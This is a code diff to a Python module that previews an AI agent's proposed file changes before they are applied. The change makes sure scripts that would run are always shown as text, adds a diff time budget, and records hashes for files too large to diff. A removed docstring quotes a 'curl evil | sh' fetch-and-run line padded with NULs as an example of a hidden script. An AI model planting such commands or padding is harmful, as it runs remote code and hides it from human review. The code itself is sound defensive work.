@@ -9,11 +9,14 @@ speculation's; a running speculation shows the files it wrote so far.
 
 from __future__ import annotations
 
-import difflib
+import hashlib
 import os
+import stat as stat_mode
+import time
 from dataclasses import dataclass, field
 
 from coordinator.service.speculation.applied_set import RefusedReport, SpeculationFiles
+from coordinator.service.speculation.text_diff import unified_diff
 from coordinator.service.speculation.transcript import render_transcript
 from coordinator.settings import Settings
 from overlay.kernel.beneath import open_beneath
@@ -21,10 +24,15 @@ from protocol.wire.chat import Message, ToolCall, ToolResult
 from protocol.wire.control import FileChange, FileDiff, TranscriptEntry
 from protocol.wire.work import WrittenFile
 
-#: A file larger than this (either side) is counted, not diffed: a preview is for reading.
+#: A file larger than this (either side) is named with its size and hash, not diffed.
 MAX_DIFF_BYTES = 1 << 20
+#: Seconds the diffs of one preview may take together (the client waits 30): a file whose
+#: diff is not done by then is named with its size and hash, and its diff is stopped.
+DIFF_BUDGET_S = 8.0
 _BINARY_PROBE = 8192
 _TEXT_CONTROLS = frozenset(b"\t\n\x0c\r")
+#: bash reads this much of a file to decide whether it is a binary it will not run.
+_BASH_PROBE = 80
 
 
 @dataclass
@@ -94,113 +102,116 @@ def preview_files(
         return (), f"Tab would apply nothing: {exc.reason}.", ()
     applied = files.preview()
     real_root = files.root
+    deadline = time.monotonic() + DIFF_BUDGET_S
     return tuple(
-        file_diff(real_root, overlay_dir, change, stat=stat or change.summarized)
+        file_diff(real_root, overlay_dir, change, stat=stat or change.summarized,
+                  deadline=deadline)
         for change in applied.changes
     ), "", applied.links_held
 
 
-def file_diff(root: str, overlay_dir: str, change: FileChange, *, stat: bool) -> FileDiff:
+@dataclass(frozen=True)
+class _Side:
+    """One version of a file: its bytes (None when over ``MAX_DIFF_BYTES`` or not a plain
+    file), its size and sha256 (-1 and '' when not a plain file), whether it is
+    executable."""
+
+    data: bytes | None
+    size: int = 0
+    sha256: str = hashlib.sha256(b"").hexdigest()
+    executable: bool = False
+
+
+_EMPTY = _Side(b"")
+
+
+def file_diff(root: str, overlay_dir: str, change: FileChange, *, stat: bool,
+              deadline: float | None = None) -> FileDiff:
     """The unified diff of ``change``'s real file against the speculation's (counts only
-    with ``stat``); the overlay side is opened with no symlink followed. A symlink Tab
-    creates has no content to diff: its line (``name -> target``) is all there is."""
+    with ``stat``); the overlay side is opened with no symlink followed. A file that
+    would run (bash would run it, a shebang, an exec bit, a runs-later rule) is never
+    called binary: its text is shown, odd bytes escaped, since Tab applies all of it. A
+    symlink Tab creates has no content to diff: its line (``name -> target``) is all
+    there is."""
     if change.link:
         return FileDiff(change)
-    before = b"" if change.status == "created" else _read_real(root, change.path)
-    after = b"" if change.status == "deleted" else _read_overlay(overlay_dir, change.path)
-    if before is None or after is None:
-        return FileDiff(change, too_large=True)
-    if _binary(before) or _binary(after):
+    before = _EMPTY if change.status == "created" else _read(root, change.path)
+    after = _EMPTY if change.status == "deleted" else _read(overlay_dir, change.path)
+    if before.data is None or after.data is None:
+        return _unshown(change, after)
+    runs = change.runs_later or before.executable or after.executable
+    if _binary(before.data, runs) or _binary(after.data, runs):
         return FileDiff(change, binary=True)
-    old = _lines(_text(before))
-    new = _lines(_text(after))
     a = "/dev/null" if change.status == "created" else f"a/{change.path}"
     b = "/dev/null" if change.status == "deleted" else f"b/{change.path}"
-    lines = list(difflib.unified_diff(old, new, a, b))
-    added = sum(1 for line in lines[2:] if line.startswith("+"))
-    removed = sum(1 for line in lines[2:] if line.startswith("-"))
-    text = "" if stat else "".join(_ended(line) for line in lines)
-    return FileDiff(change, text, added=added, removed=removed)
+    until = deadline if deadline is not None else time.monotonic() + DIFF_BUDGET_S
+    text = unified_diff(before.data, after.data, a, b, until)
+    if text is None:
+        return _unshown(change, after)
+    lines = text.splitlines()[2:]
+    added = sum(1 for line in lines if line.startswith("+"))
+    removed = sum(1 for line in lines if line.startswith("-"))
+    return FileDiff(change, "" if stat else text, added=added, removed=removed)
 
 
-def _lines(text: str) -> list[str]:
-    """``text``'s lines as git and the apply see them: cut at newlines only, each keeping
-    its newline. ``str.splitlines`` also cuts at a carriage return, a form feed, U+2028 and
-    other separators, which made one line of the file two of the diff, each but the last
-    wrongly marked "No newline at end of file"."""
-    parts = text.split("\n")
-    lines = [part + "\n" for part in parts[:-1]]
-    if parts[-1]:
-        lines.append(parts[-1])
-    return lines
+def _unshown(change: FileChange, after: _Side) -> FileDiff:
+    """Too large (or too slow) to diff: named with what Tab would write, its size and hash."""
+    return FileDiff(change, too_large=True, size=after.size, sha256=after.sha256)
 
 
-def _ended(line: str) -> str:
-    return line if line.endswith("\n") else line + "\n\\ No newline at end of file\n"
-
-
-def _binary(data: bytes) -> bool:
-    """A NUL byte near the start (git's rule) among many other control bytes. Calling a
-    file binary shows no line of it, so it must really be one: a file merely not UTF-8,
-    or a script with one NUL planted after its first line (bash skips it and runs the
-    rest), is text, its odd bytes shown as escapes."""
+def _binary(data: bytes, runs: bool) -> bool:
+    """A NUL byte near the start (git's rule) among many other control bytes, in a file
+    nothing would run. Calling a file binary shows no line of it, so it must really be
+    one: a file merely not UTF-8, or a script with a NUL block after its first line (bash
+    runs it line by line), is text, its odd bytes shown as escapes."""
+    if runs or data.startswith(b"#!") or _bash_would_run(data):
+        return False
     probe = data[:_BINARY_PROBE]
-    if b"\0" not in probe:
-        return False
     controls = sum(1 for byte in probe if byte < 0x20 and byte not in _TEXT_CONTROLS)
-    return controls * 10 > len(probe) and not _runs_as_script(probe)
+    return controls * 10 > len(probe)
 
 
-def _runs_as_script(probe: bytes) -> bool:
-    """bash runs a file whose first line (within 80 bytes) is plain text as a script,
-    whatever follows: ``curl evil | sh`` then a thousand NULs must be shown as text."""
-    end = probe.find(b"\n", 0, 80)
-    if end < 0:
+def _bash_would_run(data: bytes) -> bool:
+    """bash's own test (``check_binary_file``): it refuses an ELF file, and a file with a
+    NUL before the end of its first line (its first two after ``#!``) within the first 80
+    bytes; any other file it runs as a script, whatever control bytes or NUL blocks follow
+    (a PNG's first line holds no NUL: bash would run it, so it is shown, escaped)."""
+    probe = data[:_BASH_PROBE]
+    if probe.startswith(b"\x7fELF"):
         return False
-    try:
-        first = probe[:end].decode("utf-8")
-    except UnicodeDecodeError:
-        return False
-    return all(char >= " " or char in "\t\r" for char in first)
+    lines = 2 if probe.startswith(b"#!") else 1
+    for byte in probe:
+        if byte == 0x0A:
+            lines -= 1
+            if lines == 0:
+                return True
+        elif byte == 0:
+            return False
+    return True
 
 
-def _text(data: bytes) -> str:
-    """The file's text; a byte that is not UTF-8 shows as ``\\xNN``."""
-    return data.decode("utf-8", errors="backslashreplace")
-
-
-def _read_real(root: str, rel: str) -> bytes | None:
-    return _read(root, rel)
-
-
-def _read_overlay(overlay_dir: str, rel: str) -> bytes | None:
-    return _read(overlay_dir, rel)
-
-
-def _read(directory: str, rel: str) -> bytes | None:
-    """``directory/rel`` (no symlink followed): b"" when missing, None when it cannot be
-    shown (too large, or not a plain file: the change line says what Tab would do)."""
+def _read(directory: str, rel: str) -> _Side:
+    """``directory/rel`` (no symlink followed): empty when missing; its bytes only up to
+    ``MAX_DIFF_BYTES``, its size and hash always (what Tab writes, even unshown)."""
     try:
         fd = open_beneath(directory, rel)
     except FileNotFoundError:
-        return b""
+        return _EMPTY
     except OSError:
-        return None
-    return _read_bounded(fd)
-
-
-def _read_bounded(fd: int) -> bytes | None:
-    """The file's bytes, or None when it is over ``MAX_DIFF_BYTES``."""
+        return _Side(None, -1, "")
     try:
-        if os.fstat(fd).st_size > MAX_DIFF_BYTES:
-            return None
-        chunks = []
+        info = os.fstat(fd)
+        if not stat_mode.S_ISREG(info.st_mode):
+            return _Side(None, -1, "")
+        sha = hashlib.sha256()
+        chunks: list[bytes] = []
         total = 0
         while chunk := os.read(fd, 1 << 16):
+            sha.update(chunk)
             total += len(chunk)
-            if total > MAX_DIFF_BYTES:
-                return None
-            chunks.append(chunk)
-        return b"".join(chunks)
+            if total <= MAX_DIFF_BYTES:
+                chunks.append(chunk)
+        data = b"".join(chunks) if total <= MAX_DIFF_BYTES else None
+        return _Side(data, total, sha.hexdigest(), bool(info.st_mode & 0o111))
     finally:
         os.close(fd)
